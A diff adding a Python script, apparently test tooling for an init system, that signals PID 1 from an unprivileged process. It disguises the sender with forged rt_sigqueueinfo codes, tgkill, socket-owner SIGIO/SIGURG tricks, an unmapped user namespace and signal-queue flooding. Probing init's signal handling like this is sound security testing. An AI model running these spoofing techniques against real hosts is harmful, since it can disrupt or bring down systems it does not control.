@@ -1,0 +1,87 @@
+"""Signals PID 1 in one of the ways that hide who the sender is.
+
+usage: attack.py HOW SIGNAL...
+  kill         by kill(2)
+  queue:CODE   by rt_sigqueueinfo(2), with this si_code, pid 0 and uid 0
+  tgkill       by tgkill(2)
+  owner        PID 1 owns a socket, whose input raises the signal in it (F_SETOWN, F_SETSIG, O_ASYNC)
+  io           the same without F_SETSIG: SIGIO, whatever SIGNAL is
+  urgent       the same with urgent data: SIGURG, whatever SIGNAL is
+  namespace    by kill(2), from a user namespace that maps no id
+  full:CODE    fills the signal queue of its uid first, then as queue:CODE; full:-6 is by tgkill(2)
+"""
+import ctypes
+import fcntl
+import os
+import signal
+import socket
+import struct
+import sys
+
+RT_SIGQUEUEINFO, TGKILL, UNSHARE = {"x86_64": (129, 234, 272), "aarch64": (138, 131, 97)}[os.uname().machine]
+F_SETSIG, CLONE_NEWUSER = 10, 0x10000000
+libc = ctypes.CDLL(None, use_errno=True)
+
+
+def call(*args):
+    if libc.syscall(*args) != 0:
+        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
+
+
+def queue(pid, number, code):
+    call(RT_SIGQUEUEINFO, pid, number, struct.pack("=iiiiIIQ", number, 0, code, 0, 0, 0, 0).ljust(128, b"\0"))
+
+
+def fill():
+    """The queue of this uid, with a signal to this process that waits."""
+    signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGRTMAX])
+    try:
+        while True:
+            queue(os.getpid(), signal.SIGRTMAX, -1)
+    except BlockingIOError:
+        pass
+
+
+def connection():
+    listener = socket.create_server(("127.0.0.1", 0))
+    sender = socket.create_connection(listener.getsockname())
+    return sender, listener.accept()[0]
+
+
+def raise_by_socket(number, urgent):
+    sender, receiver = connection() if urgent else socket.socketpair()
+    fcntl.fcntl(receiver, fcntl.F_SETOWN, 1)
+    if number:
+        fcntl.fcntl(receiver, F_SETSIG, number)
+    if not urgent:
+        fcntl.fcntl(receiver, fcntl.F_SETFL, os.O_ASYNC)
+    sender.send(b"x", socket.MSG_OOB if urgent else 0)
+    receiver.recv(1, socket.MSG_OOB if urgent else 0)
+
+
+def attack(how, code, number):
+    if how in ("kill", "namespace"):
+        os.kill(1, number)
+    elif how == "tgkill" or code == -6:
+        call(TGKILL, 1, 1, number)
+    elif how in ("queue", "full"):
+        queue(1, number, code)
+    else:
+        raise_by_socket(number if how == "owner" else 0, how == "urgent")
+
+
+with open("/proc/self/status") as status:
+    assert "CapEff:\t0000000000000000\n" in status.read(), "an attacker has no capability"
+how, _, code = sys.argv[1].partition(":")
+if how == "full":
+    fill()
+if how == "namespace":
+    call(UNSHARE, CLONE_NEWUSER)
+for number in map(int, sys.argv[2:]):
+    try:
+        attack(how, int(code or 0), number)
+        print(f"attack {number} sent", flush=True)
+    except PermissionError:
+        print(f"attack {number} refused", flush=True)
+print("attack over", flush=True)
+sys.stdin.read()
